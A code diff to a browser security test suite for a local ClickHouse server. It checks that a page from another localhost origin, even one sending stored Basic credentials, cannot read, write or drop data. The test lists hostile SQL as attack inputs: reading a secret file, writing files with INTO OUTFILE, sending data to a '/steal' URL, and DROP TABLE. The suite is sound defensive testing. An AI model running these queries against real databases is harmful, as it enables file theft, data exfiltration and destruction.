@@ -8,7 +8,7 @@ import { type TestContext, test } from 'node:test'
 import type { Page } from 'playwright-core'
 import { sharedChromium } from '../support/chromium.ts'
 import { startTestClickHouse } from '../support/clickhouse.ts'
-import { fetchClickHouse } from '../support/fetch-clickhouse.ts'
+import { partsOf, runSql } from '../support/fetch-clickhouse.ts'
 
 /* A page of another site, in a real browser, against the ClickHouse of this machine. */
 
@@ -26,7 +26,8 @@ interface Site {
   readonly stolen: string[]
 }
 
-async function openSite(t: TestContext, host: string): Promise<Site> {
+/** @param headers of every request of the browser, to every server */
+async function openSite(t: TestContext, host: string, headers: Record<string, string> = {}): Promise<Site> {
   const stolen: string[] = []
   const server = createServer((req, res) => {
     if (req.url?.startsWith('/steal')) stolen.push(req.url)
@@ -37,7 +38,7 @@ async function openSite(t: TestContext, host: string): Promise<Site> {
   t.after(() => server.close())
   const url = `http://${host}:${(server.address() as { port: number }).port}/`
   if (typeof browser === 'string') throw new Error(browser)
-  const context = await browser.newContext()
+  const context = await browser.newContext({ extraHTTPHeaders: headers })
   t.after(() => context.close())
   const page = await context.newPage()
   await page.goto(url)
@@ -51,47 +52,46 @@ function call<T>(page: Page, name: 'attack' | 'leave', ...args: unknown[]): Prom
 
 for (const host of ['127.0.0.1', 'localhost']) {
   test(`a page of ${host} on another port reads, writes and drops nothing`, { skip: reason }, async (t) => {
-    const { url, rows } = await startTestClickHouse(t)
+    const { analystUrl, rows } = await startTestClickHouse(t)
+    const { origin } = partsOf(analystUrl)
+    const { username, password } = new URL(analystUrl)
     const folder = mkdtempSync(join(tmpdir(), 'ipid-browser-'))
     t.after(() => rm(folder, { recursive: true, force: true }))
     writeFileSync(join(folder, 'secret'), SECRET)
     const written = join(folder, 'written')
-    const sql = (body: string) => fetchClickHouse(url, { database: 'ipid' }, { body })
-    await sql('CREATE TABLE kept (a String) ENGINE = MergeTree ORDER BY a')
-    await sql(`INSERT INTO kept VALUES ('${SECRET}')`)
+    await runSql(analystUrl, 'CREATE TABLE workspace.kept (a String) ENGINE = MergeTree ORDER BY a')
+    await runSql(analystUrl, `INSERT INTO workspace.kept VALUES ('${SECRET}')`)
 
-    const site = await openSite(t, host)
-    const read = await call<string[]>(site.page, 'attack', url, [
-      'SELECT a FROM kept',
+    // As a browser that has kept the password.
+    const basic = `Basic ${Buffer.from(`${username}:${password}`).toString('base64')}`
+    const site = await openSite(t, host, { Authorization: basic })
+    const read = await call<string[]>(site.page, 'attack', origin, [
+      'SELECT a FROM workspace.kept',
       `SELECT file('${folder}/secret')`,
       `SELECT 1 INTO OUTFILE '${written}'`,
-      `INSERT INTO FUNCTION file('${written}', CSV, 'a Int8') SELECT 1`,
       `INSERT INTO FUNCTION url('${site.url}steal?', CSV, 'a Int8') SELECT 1`,
-      `SELECT * FROM url('${site.url}steal?read', LineAsString)`,
-      "INSERT INTO kept VALUES ('of the page')",
-      'DROP TABLE kept',
+      "INSERT INTO workspace.kept VALUES ('of the page')",
+      'DROP TABLE workspace.kept',
     ])
     assert.ok(read.length > 0 && read.every((text) => text === ''), read.join('\n'))
-    assert.deepEqual(await rows('SELECT a FROM kept'), [{ a: SECRET }])
+    assert.deepEqual(await rows('SELECT a FROM workspace.kept'), [{ a: SECRET }])
     assert.deepEqual(site.stolen, [])
     assert.ok(!existsSync(written))
-    await call(site.page, 'leave', `${url}/?query=${encodeURIComponent('SELECT 1')}`)
-    await site.page.waitForURL(`${url}/**`)
-    assert.match(await site.page.content(), /AUTHENTICATION_FAILED/)
+    await call(site.page, 'leave', `${origin}/?query=${encodeURIComponent('SELECT 1')}`)
+    await site.page.waitForURL(`${origin}/**`)
+    assert.match(await site.page.content(), /answers no other web page/)
   })
 }
 
-test('a foreign host name that resolves to this machine is refused', { skip: reason }, async (t) => {
-  const { url } = await startTestClickHouse(t)
-  const { port } = new URL(url)
-  const site = await openSite(t, '127.0.0.1')
-  const reply = await site.page.goto(`http://rebound.localhost:${port}/?query=SELECT+1`)
-  assert.equal(reply?.status(), 403)
-})
-
-test('a typed address is answered', { skip: reason }, async (t) => {
-  const { url } = await startTestClickHouse(t)
-  const site = await openSite(t, '127.0.0.1')
-  const reply = await site.page.goto(`${url}/?query=SELECT+6*7+AS+n+FORMAT+JSON`)
-  assert.match((await reply?.text()) ?? '', /"n": 42/)
+test('a browser keeps no password of a typed address', { skip: reason }, async (t) => {
+  const { analystUrl } = await startTestClickHouse(t)
+  const { origin } = partsOf(analystUrl)
+  const { username, password } = new URL(analystUrl)
+  const { page } = await openSite(t, '127.0.0.1')
+  const named = new URLSearchParams({ user: username, password, query: 'SELECT 6 * 7 AS n FORMAT JSON' })
+  assert.match((await (await page.goto(`${origin}/?${named}`))?.text()) ?? '', /"n": 42/)
+  await page.goto(`${analystUrl}/?query=SELECT+1`)
+  for (const host of [origin, origin.replace('127.0.0.1', 'rebound.localhost')]) {
+    assert.equal((await page.goto(`${host}/?query=SELECT+1`))?.ok(), false)
+  }
 })
